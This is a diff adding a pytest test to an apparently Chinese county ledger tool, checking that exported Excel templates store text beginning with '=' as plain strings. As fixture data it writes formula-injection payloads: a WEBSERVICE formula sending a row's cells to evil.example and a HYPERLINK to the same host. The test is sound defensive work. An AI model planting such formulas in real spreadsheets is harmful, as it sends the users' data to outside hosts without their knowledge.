@@ -389,3 +389,30 @@ def test_pre_commit_hook_runs_check_and_is_documented():
     assert run.returncode == 0 and run.stdout.rstrip().endswith("检查通过，没有发现问题。")
     readme = (ROOT / "README.md").read_text("utf-8")
     assert "pre-commit install" in readme and "从演示县到本县" in readme
+
+
+def test_a_text_beginning_with_an_equals_sign_is_text_in_the_templates(minimal: Path,
+                                                                        tmp_path):
+    """openpyxl stores a text beginning with "=" as a formula: a ledger problem written
+    =WEBSERVICE("http://evil.example/?"&C3) would run in the clerk's Excel (sending the
+    row's cells away), and so would a unit so named in the dropdown lists and the help."""
+    payload = '=WEBSERVICE("http://evil.example/?"&C3)'
+    ledger = next((minimal / "data/ledger").glob("*.csv"))
+    ledger.write_text(ledger.read_text("utf-8-sig").replace(
+        "一次性告知不到位", '"' + payload.replace('"', '""') + '"'), "utf-8")
+    units = minimal / "data/units.csv"
+    units.write_text(units.read_text("utf-8") + 'XZ09,"=HYPERLINK(""http://evil.example/"",'
+                     '""东城镇"")",乡镇,县委办公室,否,否,否\n', "utf-8")
+    _data, report = validate(minimal, NOW)
+    assert report.valid, report.flatten()
+    out = tmp_path / "workbooks"
+    assert main(["--root", str(minimal), "templates", str(out), "--with-data"]) == 0
+    found = []
+    for book_path in sorted(out.rglob("*.xlsx")):
+        for sheet in openpyxl.load_workbook(book_path).worksheets:
+            for row in sheet.iter_rows():
+                found += [(cell.data_type, cell.value) for cell in row
+                          if isinstance(cell.value, str) and "evil.example" in cell.value]
+    assert ("s", payload) in found
+    assert ("s", '=HYPERLINK("http://evil.example/","东城镇")') in found
+    assert {kind for kind, _value in found} == {"s"}
